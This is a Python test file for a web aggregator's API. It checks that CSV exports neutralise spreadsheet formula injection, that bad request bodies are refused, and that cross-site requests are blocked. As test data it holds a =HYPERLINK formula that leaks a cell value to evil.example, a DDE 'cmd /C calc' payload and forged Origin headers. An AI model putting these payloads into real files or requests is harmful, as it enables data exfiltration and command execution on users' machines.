"""The aggregator's web API against hostile input, on a real aggregator over loopback.

* CSV exports defuse formula injection: whatever a hostile engine names its tags or sends as
  values, a spreadsheet opening the export evaluates nothing, and numbers stay numbers.
* Request bodies: nesting is bounded (400, never a RecursionError) and a string that cannot be
  stored (a lone surrogate) is refused with 422 naming its field before any unit sees it.

* Cross-site requests: every request that acts must be JSON (415) and, from a browser, come from
  the aggregator's own origin or one in PECTUS_ALLOWED_ORIGINS (403), with sign-in on or off; a
  page of another site can no longer start a unit. Clients without an Origin keep working.

The per-route checks run against the app over test_web's fake backend, which records every
request that reaches a unit; the rest against a real aggregator.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import httpx
import pytest
import trio

from conftest import DEMO_UNIT, demo_aggregator, demo_unit, wait_for
from pectus.events import protocol as p
from pectus.web import create_app
from pectus.web.api import MAX_DEPTH, allowed_origins_from
from pectus.web.app import ROUTES, Route
from pectus.web.auth import ConfigError
from test_aggregator import OUTBOX, run_against_aggregator, session
from test_auth import client as signed_in_client, run_signed_in
from push_endpoint import FAKE_SERVICE, Subscriber, browser_keys
from test_web import AS_JSON, RUN, UNIT, FakeBackend, assert_error, trio_test

T0 = 1_800_000_000.0
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
CALC = "+cmd|' /C calc'!A0"


def api(port: int, **headers: str) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", headers=headers, timeout=10)


def engine_record(seq: int, kind: str, data: dict[str, Any], run: str | None = None) -> dict[str, Any]:
    return {"seq": seq, "kind": kind, "time": T0 + seq, "run": run, "data": data}


def hostile_run(run: str) -> str:
    """A whole run from an engine whose UOD and values are written to attack a spreadsheet."""
    uod = {"uod_name": "Unit", "uod_author_name": HYPERLINK, "uod_author_email": "@SUM(1+1)",
           "uod_filename": "-2+3", "location": "", "hardware": CALC,
           "tags": [{"name": "FT01", "unit": "L/h", "direction": "input"},
                    {"name": "=1+1", "unit": "@SUM(1+1)", "direction": "input"},
                    {"name": "Note", "unit": None, "direction": "input"}],
           "readings": [], "commands": [], "plot_configuration": {}, "data_log_interval_seconds": 1.0}
    samples = [{"time": T0 + 3, "values": {"FT01": -1.5, "=1+1": -3e-4, "Note": HYPERLINK}},
               {"time": T0 + 4, "values": {"FT01": "-2+3", "=1+1": "-3e-4", "Note": CALC}},
               {"time": T0 + 5, "values": {"FT01": "@SUM(1+1)", "=1+1": 12, "Note": "\tlooks blank"}},
               {"time": T0 + 6, "values": {"FT01": "+7", "=1+1": -1e21, "Note": "-inf"}}]
    return p.encode(p.Records([
        engine_record(1, "uod", uod),
        engine_record(2, "run_started", {}, run),
        engine_record(3, "samples", {"samples": samples}, run),
        engine_record(4, "run_stopped", {}, run),
    ]))


def test_the_csv_of_a_hostile_engine_evaluates_nothing_in_a_spreadsheet(tmp_path):
    run = "run-hostile"

    async def scenario(port, aggregator):
        hello = p.Hello(p.PROTOCOL_VERSION, "rogue_Unit", "=cmd|' /C calc'!A0", "Unit", "-1", "rogue-key", OUTBOX)
        await session(port, [hostile_run(run)], hello=hello)
        async with api(port) as client:
            await wait_for(lambda: aggregator.views.run(run) and aggregator.views.run(run)["completed_date"])
            response = await client.get(f"/api/runs/{run}/csv")
            assert response.status_code == 200, response.text
            return response.text

    rows = list(csv.reader(io.StringIO(run_against_aggregator(tmp_path, scenario), newline="")))
    metadata = {row[0]: row[1:] for row in rows if row and row[0].startswith("#")}
    assert metadata["# Engine Computer Name"] == ["'=cmd|' /C calc'!A0"]
    assert metadata["# UOD Author Name"] == ["'" + HYPERLINK]
    assert metadata["# UOD Author Email"] == ["'@SUM(1+1)"]
    assert metadata["# UOD File Name"] == ["'-2+3"]
    assert metadata["# Engine Hardware string"] == ["'" + CALC]
    header, *samples = rows[len(metadata) + 1:]
    assert header == ["Time (UTC)", "FT01 [L/h]", "'=1+1 [@SUM(1+1)]", "Note"]
    assert [sample[1:] for sample in samples] == [
        ["-1.5", "-0.0003", "'" + HYPERLINK],  # numbers stay numbers
        ["'-2+3", "-3e-4", "'" + CALC],  # a number sent as text is still a plain number
        ["'@SUM(1+1)", "12", "'\tlooks blank"],
        ["+7", "-1e+21", "'-inf"],
    ]
    # The rule as one statement: no cell a spreadsheet would evaluate, other than a plain number.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) == float(cell), cell


# -- request bodies ---------------------------------------------------------------------------

def nested(levels: int) -> bytes:
    """An inject body whose deepest value sits ``levels`` levels down (the body itself is one)."""
    return b'{"code": "Mark: A", "extra": ' + b"[" * (levels - 1) + b"]" * (levels - 1) + b"}"


@pytest.mark.parametrize(("levels", "status"), [(MAX_DEPTH, 200), (MAX_DEPTH + 1, 400), (5_000, 400), (400_000, 400)])
@trio_test
async def test_a_body_nested_deeper_than_64_levels_is_a_400_not_a_crash(levels: int, status: int) -> None:
    backend = FakeBackend()
    response = await create_app(backend).test_client().post(
        f"/api/process_units/{UNIT}/inject", data=nested(levels), headers=AS_JSON)
    if status == 200:
        assert response.status_code == 200 and len(backend.requests) == 1
        return
    assert assert_error(response, await response.get_json(), 400) == "the body nests deeper than 64 levels"
    assert backend.requests == []


LONE = '"\\ud800"'  # as JSON carries it: an escape, valid JSON syntax, not valid text
METHOD_LINES = '[{"id": "a", "text": "Mark: A"}, {"id": "b", "text": %s}]'


@pytest.mark.parametrize(("path", "body", "field"), [
    ("method", '{"lines": %s, "version": 3}' % (METHOD_LINES % LONE), "lines[1].text"),
    ("method", '{"lines": %s, "version": 3}' % (METHOD_LINES % ('"Mark: ' + "x" * 100_000 + '\\udfff"')),
     "lines[1].text"),  # a large body is checked in a worker thread, the same way
    ("inject", '{"code": "Mark: \\udc00 half an emoji"}', "code"),
    ("process_values/FT01", '{"value": %s}' % LONE, "value"),
    ("process_values/FT01", '{"value": 1, "unit": %s}' % LONE, "unit"),
    ("control", '{"command": %s}' % LONE, "command"),
    ("analyze", '{"text": %s}' % LONE, "text"),  # a body that never reaches the unit is checked too
    ("inject", '{"code": "Mark: A", %s: 1}' % LONE, None),  # a name, not a value
    ("inject", LONE, None),
])
@trio_test
async def test_a_string_that_cannot_be_stored_is_a_422_naming_the_field_before_the_unit_sees_it(
        path: str, body: str, field: str | None) -> None:
    backend = FakeBackend()
    response = await create_app(backend).test_client().post(
        f"/api/process_units/{UNIT}/{path}", data=body.encode(), headers=AS_JSON)
    assert "surrogate" in assert_error(response, await response.get_json(), 422, field)
    assert backend.requests == []


@trio_test
async def test_paired_surrogates_are_text_and_accepted() -> None:
    backend = FakeBackend()
    body = '{"code": "Mark: \\ud83e\\uddea sample taken"}'  # an escaped emoji: a valid pair
    response = await create_app(backend).test_client().post(
        f"/api/process_units/{UNIT}/inject", data=body.encode(), headers=AS_JSON)
    assert response.status_code == 200
    assert backend.requests[0][2] == {"code": "Mark: \N{TEST TUBE} sample taken"}


@pytest.mark.parametrize("body", [b'{"value": NaN}', b'{"value": -Infinity}', b'{"value": "x"}\xff'])
@trio_test
async def test_what_json_does_not_have_is_a_400(body: bytes) -> None:
    backend = FakeBackend()
    response = await create_app(backend).test_client().post(
        f"/api/process_units/{UNIT}/process_values/FT01", data=body, headers=AS_JSON)
    assert_error(response, await response.get_json(), 400)
    assert backend.requests == []


# -- cross-site requests ----------------------------------------------------------------------

ACTING = [route for route in ROUTES if route.method not in ("GET", "WEBSOCKET")]
EVIL = "https://evil.example"


def acting_path(route: Route) -> str:
    return re.sub(r"<(?:\w+:)?(\w+)>", lambda match: {"unit": UNIT, "run": RUN}.get(match[1], "x"), route.path)


def acting_body(route: Route) -> bytes:
    """A body the route takes, so what refuses the request is the check under test."""
    bodies = {"control": {"command": "Start"}, "method": {"lines": [], "version": 3}, "inject": {"code": "Mark: A"},
              "process_values": {"value": 1}, "analyze": {"text": "Mark: A"}, "download_ticket": {"export": "csv"},
              "unsubscribe": {},
              "subscriptions": Subscriber("x", f"{FAKE_SERVICE}/x", *browser_keys()).subscription(["notify"])}
    return json.dumps(next((body for name, body in bodies.items() if f"/{name}" in route.path), {})).encode()


# Routes whose handler answers otherwise than 200 to the body above: the caller has no push subscription.
REACHED = {"post_api_push_subscriptions_subscription_unsubscribe": 404, "post_api_push_test": 404}


def test_every_route_that_acts_is_a_post() -> None:
    # refuse_cross_site lets GETs through from anywhere: no route may act on one
    assert {route.method for route in ACTING} == {"POST"} and len(ACTING) == 11


@pytest.mark.parametrize("route", ACTING, ids=lambda route: route.endpoint)
@trio_test
async def test_every_route_that_acts_refuses_what_another_site_can_send(route: Route) -> None:
    backend = FakeBackend()
    client = create_app(backend, allowed_origins=frozenset()).test_client()
    path, body = acting_path(route), acting_body(route)
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None):
        headers = {"Content-Type": content_type} if content_type else {}
        response = await client.post(path, data=body, headers=headers)
        message = assert_error(response, await response.get_json(), 415)
        assert "Content-Type: application/json" in message
    response = await client.post(path, data=body, headers={**AS_JSON, "Origin": EVIL})
    assert f"'{EVIL}'" in assert_error(response, await response.get_json(), 403)
    assert backend.requests == []

    # the same request from the aggregator's own page, and from a client that is not a browser
    for headers in ({**AS_JSON, "Origin": "http://localhost"}, AS_JSON):
        response = await client.post(path, data=body, headers=headers)
        assert response.status_code == REACHED.get(route.endpoint, 200), await response.get_data()


@pytest.mark.parametrize(("origin", "allowed"), [
    ("http://localhost", True),  # the test client's own Host and scheme
    ("http://LOCALHOST:80", True),  # the same origin, spelled otherwise
    ("https://localhost", True),  # this host over https: a proxy that ends TLS in front of it
    ("https://localhost:8443", False),  # another port is another origin
    ("http://localhost:8300", False),  # and so is another port
    ("http://localhost.evil.example", False),
    ("null", False),  # a sandboxed frame, a file, a redirect across sites
    ("https://pectus.example.com", True),  # listed
    ("https://pectus.example.com:8443", False),
    ("http://10.0.0.5:8300", True),  # listed
    ("not an origin", False),
])
@trio_test
async def test_an_origin_is_allowed_when_it_is_the_aggregators_own_or_listed(
        origin: str, allowed: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PECTUS_ALLOWED_ORIGINS", " https://Pectus.Example.com:443/ , http://10.0.0.5:8300,")
    backend = FakeBackend()
    response = await create_app(backend).test_client().post(
        f"/api/process_units/{UNIT}/control", json={"command": "Start"}, headers={"Origin": origin})
    assert response.status_code == (200 if allowed else 403), await response.get_data()
    assert len(backend.requests) == allowed


@trio_test
async def test_forwarded_headers_do_not_make_a_foreign_origin_the_aggregators_own() -> None:
    # The app honours no X-Forwarded-* header: a client could send them as easily as a proxy.
    backend = FakeBackend()
    response = await create_app(backend, allowed_origins=frozenset()).test_client().post(
        f"/api/process_units/{UNIT}/control", json={"command": "Start"},
        headers={"Origin": EVIL, "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"})
    assert_error(response, await response.get_json(), 403)
    assert backend.requests == []


@trio_test
async def test_reads_and_requests_no_route_takes_are_not_cross_site_checks() -> None:
    client = create_app(FakeBackend(), allowed_origins=frozenset()).test_client()
    response = await client.get(f"/api/process_units/{UNIT}", headers={"Origin": EVIL})
    assert response.status_code == 200  # the browser keeps another site from reading it (no CORS)
    response = await client.delete(f"/api/process_units/{UNIT}/control", headers={"Origin": EVIL})
    assert_error(response, await response.get_json(), 405)
    response = await client.post("/api/nothing", headers={"Origin": EVIL})
    assert_error(response, await response.get_json(), 404)


@pytest.mark.parametrize("value", ["pectus.example.com", "https://pectus.example.com/app", "null", "ftp://x",
                                   "https://user@pectus.example.com", "https://pectus.example.com:port"])
def test_a_listed_origin_that_is_not_one_stops_the_aggregator_with_its_name(value: str) -> None:
    with pytest.raises(ConfigError, match=re.escape(repr(value))):
        allowed_origins_from({"PECTUS_ALLOWED_ORIGINS": f"https://ok.example, {value}"})
    with pytest.raises(ConfigError, match="PECTUS_ALLOWED_ORIGINS"):
        create_app(FakeBackend(), allowed_origins=allowed_origins_from({"PECTUS_ALLOWED_ORIGINS": value}))


def test_with_sign_in_on_a_signed_in_users_browser_is_refused_on_another_sites_page(tmp_path):
    """The sign-in header already keeps a plain form from acting; the checks hold all the same."""

    async def scenario(port, provider, aggregator):
        own = f"http://127.0.0.1:{port}"
        path = "/api/runs/run-open_Unit/download_ticket"
        async with signed_in_client(port, provider.mint()) as alice:
            response = await alice.post(path, json={"export": "csv"}, headers={"Origin": EVIL})
            assert response.status_code == 403 and EVIL in response.json()["error"]["message"]
            response = await alice.post(path, content=b'{"export": "csv"}', headers={"Content-Type": "text/plain"})
            assert response.status_code == 415
            response = await alice.post(path, content=b'{"export": "\\ud800"}', headers=AS_JSON)
            assert response.status_code == 422 and response.json()["error"]["field"] == "export"
            response = await alice.post(path, json={"export": "csv"}, headers={"Origin": own})
            assert response.status_code == 200, response.text

    run_signed_in(tmp_path, scenario)


def test_another_sites_page_can_no_longer_start_a_unit_nor_a_bad_method_reach_it(tmp_path):
    """A real aggregator and a real demo engine. The page of another site posts what a form or a
    no-cors fetch can send - text/plain, no header of its choosing - to start the unit; before
    these checks that started it. A saved method with a lone surrogate is refused as well. None
    of it reaches the unit or the record; the aggregator's own page and a headless client act."""
    aggregator = demo_aggregator(tmp_path)
    unit = DEMO_UNIT
    start = b'{"command": "Start"}'

    async def main():
        async with demo_unit(tmp_path, aggregator) as demo:
            client = demo.api
            control = f"/api/process_units/{unit}/control"
            method = (await client.get(f"/api/process_units/{unit}/method")).json()

            attack = await client.post(control, content=start,
                                       headers={"Content-Type": "text/plain", "Origin": EVIL})
            assert attack.status_code == 403 and EVIL in attack.json()["error"]["message"]
            no_origin = await client.post(control, content=start, headers={"Content-Type": "text/plain"})
            assert no_origin.status_code == 415
            as_json = await client.post(control, content=start, headers={**AS_JSON, "Origin": EVIL})
            assert as_json.status_code == 403
            lines = '[{"id": "1", "text": "Mark: \\ud800"}]'
            garbled = await client.post(f"/api/process_units/{unit}/method", headers=AS_JSON,
                                        content=f'{{"lines": {lines}, "version": {method["version"]}}}'.encode())
            assert garbled.status_code == 422 and garbled.json()["error"]["field"] == "lines[0].text"

            # (the view gains other fields as the engine reports in: compare what a save changes)
            after = (await client.get(f"/api/process_units/{unit}/method")).json()
            assert (after["version"], after["lines"]) == (method["version"], method["lines"])
            assert not (await client.get(f"/api/process_units/{unit}/control_state")).json()["is_running"]
            assert [r for r in aggregator.store.read() if r.type == "UserRequested"] == []

            # the aggregator's own page, then a client that is no browser
            own = await client.post(control, json={"command": "Start"}, headers={"Origin": str(client.base_url).rstrip("/")})
            assert own.status_code == 200, own.text

            async def running():
                return (await client.get(f"/api/process_units/{unit}/control_state")).json()["is_running"]
            await wait_for(running, timeout=20)
            assert (await client.post(control, json={"command": "Stop"})).status_code == 200
            requested = [r.data["detail"] for r in aggregator.store.read() if r.type == "UserRequested"]
            assert requested == [{"command": "Start"}, {"command": "Stop"}]

    trio.run(main)
